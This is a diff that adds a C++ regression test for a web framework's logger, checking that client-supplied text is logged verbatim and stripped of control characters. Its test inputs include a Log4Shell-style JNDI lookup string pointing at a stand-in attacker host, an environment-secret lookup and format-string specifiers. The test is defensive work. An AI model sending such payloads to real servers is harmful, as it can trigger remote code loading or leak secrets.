@@ -2,6 +2,7 @@
 // Faults that others had with what they write to logs.
 #include <groat/middleware/access_log.hpp>
 #include <groat/middleware/catch_exceptions.hpp>
+#include <groat/middleware/logger.hpp>
 
 #include <groat/server/test.hpp>
 #include <groat/text.hpp>
@@ -156,6 +157,43 @@ TEST_CASE(
     const auto got = to.get("/");
     CHECK(got.status == 500);
     CHECK(got.body.find("script") == std::string::npos);
+}
+
+// CVE-2021-44228 (Log4j): what an app logs was expanded, and what a client had put there was looked
+// up; and as above, it made lines of its own.
+TEST_CASE("logger: what is logged is text, in one line", "[logger]") {
+    std::vector<std::string> got;
+    const middleware::logger layer{
+        [&](middleware::log_level, std::string_view line) { got.emplace_back(line); }};
+    const client to{
+        wrap(
+            layer,
+            [](env& request) {
+                middleware::logger::log(
+                    request, middleware::log_level::warning, request.remote_user()
+                );
+                return text("x");
+            }
+        ),
+        {.lint = false}};
+    for (const std::string plain :
+         {"${jndi:ldap://evil.example/a}",
+          "${env:SECRET}",
+          "%s%n%d",
+          "{} {0}",
+          "%{Cookie}i",
+          "$HOME"}) {
+        to.send({.variables = {{"REMOTE_USER", plain}}});
+        CHECK(got.back() == plain);
+    }
+    for (const auto& attack : attacks) {
+        to.send({.variables = {{"REMOTE_USER", attack}}});
+        for (const char c : got.back()) {
+            const auto byte = static_cast<unsigned char>(c);
+            CHECK((byte >= 0x20 && byte != 0x7f));
+        }
+        CHECK(got.back().find("\x9b") == std::string::npos);
+    }
 }
 
 // CVE-2020-8184 (Rack), CVE-2023-23934 (Werkzeug), GHSA-r5rp-j6wh-rvv4 (Hono): a name that is not
